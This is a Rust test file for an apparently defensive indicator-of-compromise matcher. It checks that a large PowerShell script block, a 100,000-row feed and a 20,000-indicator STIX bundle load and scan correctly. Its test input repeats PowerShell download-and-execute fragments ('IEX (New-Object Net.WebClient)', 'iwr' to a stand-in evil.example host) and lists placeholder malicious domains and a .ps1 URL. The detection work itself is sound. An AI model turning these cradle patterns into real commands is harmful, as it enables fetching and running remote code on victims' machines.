//! Resource limits (issue #6) for IOC matching: a 50 MB PowerShell script
//! block is scanned in one linear pass (one Aho-Corasick automaton over all
//! text fields), and a 100,000-row feed loads. No timing assertions.

use tracehunt_event::{Event, Value};
use tracehunt_ioc::IocSet;

#[test]
fn fifty_mb_script_block_is_scanned() {
    let mut b = IocSet::builder();
    b.load(
        "type,value,actor\ndomain,evil.example,APT29\nurl,http://198.51.100.7/a.ps1,\n",
        "feed.csv",
    )
    .unwrap();
    let set = b.build();
    let mut text = "IEX (New-Object Net.WebClient) ".repeat(50_000_000 / 31);
    text.push_str(" iwr https://cdn.EVIL.example/x; notevil.example.org");
    let mut ev = Event::default();
    ev.push("ScriptBlockText", Value::from(text.as_str()));
    let hits = set.matches(&ev);
    assert_eq!(hits.len(), 1, "{hits:?}");
    assert_eq!(hits[0].value, "evil.example");
    assert_eq!(hits[0].field, "ScriptBlockText");
}

#[test]
fn hundred_thousand_row_feed_loads() {
    let mut csv = String::from("type,value\n");
    for i in 0..100_000u32 {
        csv.push_str(&format!("domain,host{i}.evil.example\n"));
    }
    let mut b = IocSet::builder();
    let r = b.load_csv(&csv, "big.csv").unwrap();
    assert_eq!(r.total(), 100_000);
    let set = b.build();
    assert_eq!(set.len(), 100_000);
    let mut ev = Event::default();
    ev.push("QueryName", Value::from("a.host99999.evil.example"));
    assert_eq!(set.matches(&ev).len(), 1);
}

/// A STIX bundle with 20,000 indicators, each `indicates` an intrusion set:
/// loads (the actors of each indicator are looked up by index, not by
/// scanning all relationships per indicator) and every IOC keeps its actor.
#[test]
fn twenty_thousand_indicator_bundle_loads() {
    let n = 20_000;
    let mut objects = vec![r#"{"type":"intrusion-set","id":"intrusion-set--a","name":"Turla","external_references":[{"source_name":"mitre-attack","external_id":"G0010"}]}"#.to_owned()];
    for i in 0..n {
        objects.push(format!(
            r#"{{"type":"indicator","id":"indicator--{i}","pattern_type":"stix","pattern":"[domain-name:value = 'h{i}.evil.example']"}}"#
        ));
        objects.push(format!(
            r#"{{"type":"relationship","id":"relationship--{i}","relationship_type":"indicates","source_ref":"indicator--{i}","target_ref":"intrusion-set--a"}}"#
        ));
    }
    let bundle = format!(
        r#"{{"type":"bundle","id":"bundle--1","objects":[{}]}}"#,
        objects.join(",")
    );
    let mut b = IocSet::builder();
    let r = b.load_stix(&bundle, "big-bundle.json").unwrap();
    assert_eq!(r.entries, n);
    assert_eq!(r.total(), n);
    assert_eq!(r.actors, ["Turla"]);
    let set = b.build();
    assert!(set
        .iocs()
        .iter()
        .all(|i| i.origins[0].actors[0].name == "Turla"));
}
